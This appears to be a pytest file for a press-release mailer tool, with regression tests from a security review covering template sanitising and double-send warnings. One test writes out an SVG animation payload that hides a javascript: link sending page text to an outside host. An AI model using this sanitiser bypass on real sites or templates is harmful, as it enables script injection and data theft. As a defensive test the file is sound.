"""Review 24x: a hostile reviewer's findings in the day's merged work, each a test that failed before its fix."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from conftest import ROOT
from office_cli import SEND, campaign_of, mailer, office, said


def _agency_release(project: Path, extra: str) -> Path:
    """An agency's folder: its release names its own template, kit.html.j2, the built-in one with ``extra`` added."""
    folder = project / "agency"
    folder.mkdir()
    text = (ROOT / "releases" / "example.md").read_text(encoding="utf-8")
    (folder / "pitch.md").write_text(text.replace("---\n", "---\ntemplate: kit\n", 1), encoding="utf-8")
    html = (ROOT / "templates" / "release.html.j2").read_text(encoding="utf-8")
    (folder / "kit.html.j2").write_text(html.replace("</body>", f"{extra}\n</body>"), encoding="utf-8")
    for suffix in ("txt.j2", "css"):
        (folder / f"kit.{suffix}").write_text((ROOT / "templates" / f"release.{suffix}").read_text(encoding="utf-8"), encoding="utf-8")
    return folder / "pitch.md"


# -- 1. an SVG animation's list of values slipped a javascript: link past the template check ----------


def test_a_template_cannot_hide_a_javascript_link_in_an_svg_animations_list(project: Path) -> None:
    """An agency's template may not run anything in the press officer's browser (review 24k #1), yet
    <animate attributeName="href" values="https://...;javascript:..."> went through: only the list's
    first address was read, and the link it animates runs the agency's script when she clicks it in
    `mailer preview --open`. Each address of the list is read now, and the template refused."""
    svg = (
        '<svg width="200" height="30"><a><animate attributeName="href" dur="2s" repeatCount="indefinite" '
        'values="https://agency.example/; javascript:fetch(`https://agency.example/?d=`+document.body.innerText)"/>'
        '<text x="0" y="20">Our press kit</text></a></svg>'
    )
    release = _agency_release(project, svg)
    result = mailer("preview", str(release), "-o", "out")
    assert result.exit_code == 1, result.output
    assert "javascript: is not allowed in an email template" in said(result), result.output
    assert not (project / "out" / "pitch.html").exists()
    # an animation between two web addresses is no script
    (project / "agency" / "kit.html.j2").write_text(
        (project / "agency" / "kit.html.j2").read_text(encoding="utf-8").replace("javascript:fetch", "https://example.org/?fetch"),
        encoding="utf-8",
    )
    assert mailer("preview", str(release), "-o", "out").exit_code == 0


# -- 2. the dry run's advice next to a scheduled send led to a live send that mailed them twice -------


def test_include_previous_next_to_a_scheduled_send_says_they_would_get_it_twice(tmp_path: Path, standin: Any, db_url: str) -> None:
    """After scheduling the release, a dry run to the Regional journalists said to add
    --include-previous to see their emails (review of newcomer 24 #2); that dry run then ended "To
    send, run the same command without --dry-run.", and the live send it names mailed Ana at once,
    with no word in its plan, while SendGrid held her scheduled email of the same release: she got
    it twice. A send with --include-previous (its dry run too) now says so, and how to avoid it."""
    beat = "Email,First Name,Outlet,Tags\nana@daily.example,Ana,Daily News,Regional\nben@gazette.example,Ben,The Gazette,National\n"
    office(tmp_path, standin, db_url, beat=beat)
    at = (datetime.now(UTC) + timedelta(hours=3)).replace(second=0, microsecond=0)
    scheduled = mailer(*SEND, "--at", f"{at:%Y-%m-%d %H:%M} UTC")
    assert scheduled.exit_code == 0, scheduled.output
    campaign_id = campaign_of(scheduled)
    regional = ("send", "releases/example.md", "--list", "lists/beat.csv", "--tag", "Regional")
    dry = mailer(*regional, "--dry-run")
    assert "a live send with it would mail them twice" in said(dry), dry.output
    twice = (
        f"1 journalist of these is scheduled to get this exact release at {at:%Y-%m-%d %H:%M} UTC in {campaign_id} (SendGrid "
        "holds it until then): with --include-previous that journalist gets it now, and again at that time. To leave them "
        f"out, send without --include-previous; to send it to them now instead, cancel that send first: mailer cancel {campaign_id}."
    )
    shown = mailer(*regional, "--dry-run", "--include-previous")
    assert shown.exit_code == 0 and twice in said(shown), shown.output
    sent = mailer(*regional, "--include-previous", "--yes", "--no-test-ok")
    assert sent.exit_code == 0 and twice in said(sent), sent.output
    # without --include-previous, nobody is mailed twice and nothing is said of it
    again = mailer(*regional, "--dry-run")
    assert "with --include-previous" not in said(again), again.output
